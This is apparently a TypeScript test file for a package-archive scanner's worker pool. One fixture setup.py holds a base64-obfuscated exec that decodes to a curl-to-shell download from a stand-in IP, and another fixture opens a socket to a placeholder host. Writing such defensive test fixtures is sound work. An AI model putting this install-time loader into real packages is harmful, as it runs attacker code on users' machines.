// The analysis pool: worker threads give the same views and analyses as this thread, in the caller's order,
// and a worker that dies fails only its own job.
import { afterAll, describe, expect, it } from 'vitest';
import {
  type AnalysisPool,
  type ArchiveAnalysis,
  createAnalysisPool,
  inlineAnalysis,
} from '../../src/action/analysis-pool.js';
import { makeSdist, makeWheel, makeZip } from '../fixtures/archives.js';

const worker = new URL('../helpers/analysis-worker.mjs', import.meta.url);
const hostile = new URL('../helpers/hostile-analysis-worker.mjs', import.meta.url);

const archives: [string, Uint8Array][] = [
  [
    'honest-1.0-py3-none-any.whl',
    makeWheel({
      name: 'honest',
      version: '1.0',
      files: { 'honest/__init__.py': 'def add(a, b):\n    return a + b\n' },
    }),
  ],
  [
    'evil-1.0.tar.gz',
    makeSdist({
      name: 'evil',
      version: '1.0',
      files: {
        'setup.py':
          'import base64, os\nexec(base64.b64decode("b3Muc3lzdGVtKCdjdXJsIGh0dHA6Ly8xOTguNTEuMTAwLjIzL3ggfCBzaCcp"))\nfrom setuptools import setup\nsetup(name="evil")\n',
      },
    }),
  ],
  [
    'notes.zip',
    makeZip([{ path: 'a/b.py', data: 'import socket\nsocket.create_connection(("198.51.100.7", 80))\n' }]),
  ],
  ['corrupt.whl', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3])],
  ['empty.whl', new Uint8Array()],
];

/** What must agree across threads: the view without entry bytes, and the analysis. */
const comparable = (r: ArchiveAnalysis) => ({
  ...r,
  view: { ...r.view, entries: r.view.entries.map(({ data: _data, ...e }) => e) },
});

describe('analysis pool', () => {
  const pools: AnalysisPool[] = [];
  afterAll(async () => {
    await Promise.all(pools.map((p) => p.close()));
  });

  it('gives the same results as this thread, in the order asked, with jobs running on two workers', async () => {
    const pool = createAnalysisPool({ workerUrl: worker, threads: 2 });
    pools.push(pool);
    const inline = inlineAnalysis();
    // Each archive three times, all queued at once: more jobs than workers.
    const jobs = [...archives, ...archives, ...archives];
    const [threaded, here] = await Promise.all([
      Promise.all(jobs.map(([name, bytes]) => pool.analyse(bytes, name))),
      Promise.all(jobs.map(([name, bytes]) => inline.analyse(bytes, name))),
    ]);
    expect(threaded.map(comparable)).toEqual(here.map(comparable));
    // The evidence is really there (not two empty results agreeing).
    expect(threaded[1]!.analysis?.evidence.length).toBeGreaterThan(0);
    expect(threaded[3]!.view.status).toBe('error');
    // Entry bytes stay in the worker.
    expect(threaded[0]!.view.entries.every((e) => e.data === undefined)).toBe(true);
  }, 60_000);

  it('sends only the bytes of a view into a larger buffer, and leaves the caller its bytes', async () => {
    const pool = createAnalysisPool({ workerUrl: worker, threads: 1 });
    pools.push(pool);
    const wheel = archives[0]![1];
    const big = new Uint8Array(wheel.length + 64);
    big.set(wheel, 32);
    const view = big.subarray(32, 32 + wheel.length);
    const result = await pool.analyse(view, 'inside.whl');
    expect(result.view.status).toBe('ok');
    expect(big.byteLength).toBe(wheel.length + 64);
    expect(Buffer.from(view).equals(Buffer.from(wheel))).toBe(true);
  }, 60_000);

  it('fails only the job whose worker died, naming the file, and goes on with a new worker', async () => {
    const pool = createAnalysisPool({ workerUrl: hostile, threads: 1 });
    pools.push(pool);
    const [name, bytes] = archives[0]!;
    const results = await Promise.allSettled([
      pool.analyse(bytes, name),
      pool.analyse(new TextEncoder().encode('CRASH this worker'), 'hostile-1.0.tar.gz'),
      pool.analyse(bytes, name),
    ]);
    expect(results.map((r) => r.status)).toEqual(['fulfilled', 'rejected', 'fulfilled']);
    const failure = results[1] as PromiseRejectedResult;
    expect(String(failure.reason)).toMatch(/analysis worker stopped while reading hostile-1\.0\.tar\.gz/);
  }, 60_000);

  it('stops a job past its time limit (counted from when the job starts), and goes on', async () => {
    const pool = createAnalysisPool({ workerUrl: hostile, threads: 1, jobTimeoutMs: 5000 });
    pools.push(pool);
    const [name, bytes] = archives[0]!;
    const results = await Promise.allSettled([
      pool.analyse(bytes, name),
      pool.analyse(new TextEncoder().encode('HANG! forever'), 'slow-1.0.tar.gz'),
      pool.analyse(bytes, name),
    ]);
    expect(results.map((r) => r.status)).toEqual(['fulfilled', 'rejected', 'fulfilled']);
    expect(String((results[1] as PromiseRejectedResult).reason)).toMatch(
      /stopped while reading slow-1\.0\.tar\.gz: it took longer than 5 s/,
    );
  }, 60_000);

  it('rejects work after close()', async () => {
    const pool = createAnalysisPool({ workerUrl: worker, threads: 1 });
    await pool.close();
    await expect(pool.analyse(archives[0]![1], 'late.whl')).rejects.toThrow(/closed/);
  });
});
